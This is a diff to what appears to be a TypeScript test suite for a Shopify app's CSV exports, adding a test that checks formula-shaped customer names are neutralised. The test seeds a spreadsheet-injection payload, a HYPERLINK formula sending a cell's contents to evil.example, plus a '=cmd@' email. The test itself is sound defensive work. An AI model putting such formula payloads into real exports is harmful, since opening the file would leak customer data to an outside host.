@@ -109,6 +109,21 @@ describe("CSV exports with a Shopify session token", () => {
     expect(csv).not.toMatch(/customer2\d{6}@/); // shop B's ids start at 2,000,000
   });
 
+  it("a shopper's formula-shaped name reaches the customers CSV defused", async () => {
+    const shop = await database.prisma.shop.findUniqueOrThrow({ where: { domain: A } });
+    const hostile = '-1+HYPERLINK("http://evil.example/?d="&B2,"Refund")';
+    const at = new Date("2026-01-02T00:00:00Z");
+    await database.prisma.customer.create({ data: { shopId: shop.id, id: 9_999_001n, email: "=cmd@evil.example", firstName: hostile, lastName: null, shopifyCreated: at, shopifyUpdated: at } });
+    await database.prisma.clvPrediction.create({
+      data: { shopId: shop.id, customerKey: "c:9999001", frequency: 2, recencyDays: 30, ageDays: 90, pAlive: 0.9, expectedOrders: 1.5, expectedOrderValue: 4000, predictedClv: 6000, churnRisk: "low" },
+    });
+    const csv = await (await exportWith("/app/customers/csv", tokenFor(A))).text();
+    const line = csv.split("\r\n").find((row) => row.includes("HYPERLINK"));
+    expect(line).toBeDefined();
+    expect(line!.startsWith(`"'-1+HYPERLINK(`)).toBe(true);
+    expect(line).toContain(",'=cmd@evil.example,");
+  });
+
   it("refuses an expired token, one signed with another secret, and one for another app", async () => {
     const cases = [
       tokenFor(A, { now: new Date(Date.now() - 10 * 60_000) }),
